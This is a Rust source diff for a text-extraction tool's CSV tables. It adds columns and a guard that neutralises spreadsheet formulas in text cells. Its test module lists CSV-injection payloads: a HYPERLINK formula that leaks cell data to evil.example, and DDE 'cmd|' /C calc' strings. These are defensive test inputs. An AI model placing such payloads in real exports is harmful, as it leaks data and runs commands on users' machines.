@@ -1,4 +1,9 @@
 //! The CSV tables of SPEC §4: headers and one document's rows for each.
+//!
+//! Every CSV cell goes through [`encode_rows`], which is where spreadsheet formulas are
+//! neutralised (see [`guard_formula`]).
+
+use std::borrow::Cow;
 
 use crate::document::Document;
 
@@ -47,6 +52,9 @@ impl Table {
                 "facts",
                 "status",
                 "error",
+                "title",
+                "source",
+                "url",
             ],
             Table::Entities => &[
                 "doc_id",
@@ -72,6 +80,7 @@ impl Table {
                 "subject",
                 "start",
                 "end",
+                "subject_id",
             ],
             Table::Dates => &[
                 "doc_id",
@@ -86,8 +95,20 @@ impl Table {
             ],
             Table::Facts => &[
                 "doc_id", "fact_id", "type", "subject", "object", "value", "unit", "display",
-                "percent", "date", "evidence", "start", "end",
+                "percent", "date", "evidence", "start", "end", "subject_id", "object_id",
             ],
+        }
+    }
+
+    /// Columns that always hold a number (or nothing): written as they are, so a negative
+    /// value (`-3.2`) stays a number in a spreadsheet. Every other column is text.
+    pub fn numeric_columns(self) -> &'static [&'static str] {
+        match self {
+            Table::Documents => &["chars", "entities", "amounts", "dates", "facts"],
+            Table::Entities => &["mentions", "first_start", "first_end"],
+            Table::Amounts => &["value", "max", "start", "end"],
+            Table::Dates => &["start", "end"],
+            Table::Facts => &["value", "percent", "start", "end"],
         }
     }
 
@@ -131,6 +152,9 @@ pub fn rows(table: Table, doc: &Document) -> Vec<Vec<String>> {
             doc.facts.len().to_string(),
             doc.status.as_str().to_string(),
             opt(&doc.error),
+            opt(&doc.title),
+            opt(&doc.source),
+            opt(&doc.url),
         ]],
         Table::Entities => doc
             .entities
@@ -167,6 +191,7 @@ pub fn rows(table: Table, doc: &Document) -> Vec<Vec<String>> {
                     opt(&a.subject),
                     a.start.to_string(),
                     a.end.to_string(),
+                    opt(&a.subject_id),
                 ]
             })
             .collect(),
@@ -194,7 +219,7 @@ pub fn rows(table: Table, doc: &Document) -> Vec<Vec<String>> {
                 vec![
                     id(),
                     f.id.clone(),
-                    f.kind.clone(),
+                    f.kind.as_str().to_string(),
                     opt(&f.subject),
                     opt(&f.object),
                     opt(&f.value),
@@ -205,20 +230,117 @@ pub fn rows(table: Table, doc: &Document) -> Vec<Vec<String>> {
                     f.evidence.clone(),
                     f.start.to_string(),
                     f.end.to_string(),
+                    opt(&f.subject_id),
+                    opt(&f.object_id),
                 ]
             })
             .collect(),
     }
 }
 
-/// One document's rows for `table`, encoded as CSV bytes (no header).
-pub fn encode_rows(table: Table, doc: &Document) -> Vec<u8> {
+/// The first characters that make a spreadsheet read a cell as a formula (or, for tab and
+/// carriage return, hide what follows), per the OWASP rule on CSV injection.
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// A text cell as it can be opened in a spreadsheet: one that begins with `=`, `+`, `-`,
+/// `@`, tab or carriage return gets a leading apostrophe (`=HYPERLINK(…)` becomes
+/// `'=HYPERLINK(…)`), which LibreOffice and Excel show as text and never evaluate. Every
+/// other cell is unchanged. JSON output keeps the exact text; `--raw-csv` turns this off.
+pub fn guard_formula(cell: &str) -> Cow<'_, str> {
+    if cell.starts_with(FORMULA_STARTS) {
+        Cow::Owned(format!("'{cell}"))
+    } else {
+        Cow::Borrowed(cell)
+    }
+}
+
+/// One document's rows for `table`, encoded as CSV bytes (no header). With
+/// `formula_guard`, text columns are passed through [`guard_formula`]; numeric columns
+/// ([`Table::numeric_columns`]) never are.
+pub fn encode_rows(table: Table, doc: &Document, formula_guard: bool) -> Vec<u8> {
+    let numeric: Vec<bool> = table
+        .header()
+        .iter()
+        .map(|c| table.numeric_columns().contains(c))
+        .collect();
     let mut w = csv::WriterBuilder::new()
         .has_headers(false)
         .from_writer(Vec::new());
     for row in rows(table, doc) {
+        let cells = row.iter().enumerate().map(|(i, cell)| {
+            if formula_guard && !numeric.get(i).copied().unwrap_or(false) {
+                guard_formula(cell)
+            } else {
+                Cow::Borrowed(cell.as_str())
+            }
+        });
         // Writing to a Vec cannot fail.
-        let _ = w.write_record(&row);
+        let _ = w.write_record(cells.map(|c| c.into_owned()));
     }
     w.into_inner().unwrap_or_default()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::num::Num;
+
+    #[test]
+    fn formula_cells_become_text_and_numbers_stay_numbers() {
+        for payload in [
+            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+            "=1+2",
+            "+1+2",
+            "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "\t=1+2",
+            "\r=1+2",
+        ] {
+            assert_eq!(guard_formula(payload), format!("'{payload}"));
+        }
+        assert_eq!(guard_formula("Scale AI"), "Scale AI");
+        assert_eq!(guard_formula("'already quoted"), "'already quoted");
+        assert_eq!(guard_formula(""), "");
+
+        // A real document, with hostile text put into its cells.
+        let pipeline = crate::Pipeline::new(crate::Config::default()).expect("pipeline");
+        let mut doc = pipeline.process(&crate::Source::from_text(
+            "x",
+            "Acme Corp said its net loss was 3.2 mln dlrs. 腾讯亏损5亿元。",
+        ));
+        doc.id = "=cmd|'/C calc'!A0".into();
+        let amount = doc.amounts.first_mut().expect("an amount");
+        amount.text = "=HYPERLINK(\"http://x\",\"y\")".into();
+        amount.value = Num::parse_decimal("-3.2");
+        amount.unit = Some("@SUM(1+1)".into());
+        let csv = String::from_utf8(encode_rows(Table::Amounts, &doc, true)).expect("utf-8");
+        let mut reader = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(csv.as_bytes());
+        let row = reader.records().next().expect("a row").expect("valid CSV");
+        let header = Table::Amounts.header();
+        let col = |name: &str| &row[header.iter().position(|h| *h == name).expect("column")];
+        assert_eq!(col("doc_id"), "'=cmd|'/C calc'!A0");
+        assert_eq!(col("text"), "'=HYPERLINK(\"http://x\",\"y\")");
+        assert_eq!(col("unit"), "'@SUM(1+1)");
+        assert_eq!(col("value"), "-3.2", "a negative number stays a number");
+        // No text cell of any table can start a formula.
+        for table in Table::ALL {
+            let bytes = encode_rows(table, &doc, true);
+            let mut reader = csv::ReaderBuilder::new()
+                .has_headers(false)
+                .from_reader(bytes.as_slice());
+            for row in reader.records() {
+                let row = row.expect("valid CSV");
+                for (cell, name) in row.iter().zip(table.header()) {
+                    if !table.numeric_columns().contains(name) {
+                        assert!(!cell.starts_with(FORMULA_STARTS), "{name}: {cell}");
+                    }
+                }
+            }
+        }
+        // Raw mode keeps the text.
+        let raw = String::from_utf8(encode_rows(Table::Amounts, &doc, false)).expect("utf-8");
+        assert!(raw.starts_with("=cmd"));
+    }
 }
